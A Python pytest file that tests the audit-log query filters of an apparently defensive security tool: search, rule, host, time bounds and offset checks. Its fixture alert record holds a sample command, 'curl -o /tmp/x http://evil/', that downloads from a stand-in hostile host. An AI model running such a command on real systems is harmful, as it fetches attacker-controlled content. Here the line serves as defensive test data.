"""The filters of ``garrison audits list|export`` as plain logic: what each field matches,
and what is refused before any store is read."""

from __future__ import annotations

import pytest

from garrison.audit.query import MAX_OFFSET, AuditFilter, folded_contains, parse_when
from garrison.audit.record import Audit
from garrison.errors import InvalidInput

NOW = 1_700_000_000.0


def audit(**fields) -> Audit:
    base = {"time": 100.0, "hostname": "node-1", "type": "processes",
            "attackType": "unexpectedProcess", "effect": "alert", "msg": "Curl launched",
            "command": "curl -o /tmp/x http://evil/", "ruleName": "no-curl"}  # fmt: skip
    return Audit(**(base | fields))


@pytest.mark.parametrize(
    ("query", "matched"),
    [
        (AuditFilter(search="CURL"), True),
        (AuditFilter(search="evil/"), True),  # in the command
        (AuditFilter(search="curl -O"), True),
        (AuditFilter(search="c%l"), False),  # no wildcards
        (AuditFilter(search="cur_"), False),
        (AuditFilter(rule="no-curl"), True),
        (AuditFilter(rule="no-cur"), False),
        (AuditFilter(rule="NO-CURL"), False),
        (AuditFilter(host="node-1"), True),
        (AuditFilter(host="node"), False),
        (AuditFilter(attack_type="unexpectedProcess"), True),
        (AuditFilter(attack_type="unexpectedprocess"), False),
        (AuditFilter(until=100.0), False),  # the bound itself is excluded
        (AuditFilter(until=100.5), True),
        (AuditFilter(since=100.0, until=101.0), True),
    ],
)
def test_each_filter_matches_what_it_names(query, matched):
    assert query.matches(audit()) is matched


def test_search_folds_unicode_case_and_takes_a_lone_surrogate_as_itself():
    assert folded_contains("été", "ÉTÉ 2024")
    assert folded_contains("straße", "STRAßE")
    assert AuditFilter(search="\udcff").matches(audit(command="rm x\udcff"))
    assert not AuditFilter(search="\udcfe").matches(audit(command="rm x\udcff"))


@pytest.mark.parametrize("offset", [-1, MAX_OFFSET + 1, 10**30])
def test_an_offset_out_of_range_is_refused(offset):
    with pytest.raises(InvalidInput, match=f"offset must be 0 to {MAX_OFFSET:,}"):
        AuditFilter(offset=offset)


def test_until_no_later_than_since_is_refused():
    with pytest.raises(InvalidInput, match="--until must be later than --since"):
        AuditFilter(since=10.0, until=10.0)


@pytest.mark.parametrize("field", ["rule", "host", "attack_type", "container", "image"])
def test_a_name_that_is_not_utf8_is_refused_in_one_line(field):
    with pytest.raises(InvalidInput, match=r"not valid UTF-8 text") as refused:
        AuditFilter(**{field: "web\udcff"})
    assert "\\udcff" in str(refused.value)
    assert "\udcff" not in str(refused.value)


def test_until_reads_like_since_and_names_itself_when_wrong():
    assert parse_when("2h", NOW, "--until") == NOW - 7200
    assert parse_when("2023-11-14T22:13:20Z", NOW, "--until") == NOW
    with pytest.raises(InvalidInput, match="--until 'tomorrow'"):
        parse_when("tomorrow", NOW, "--until")
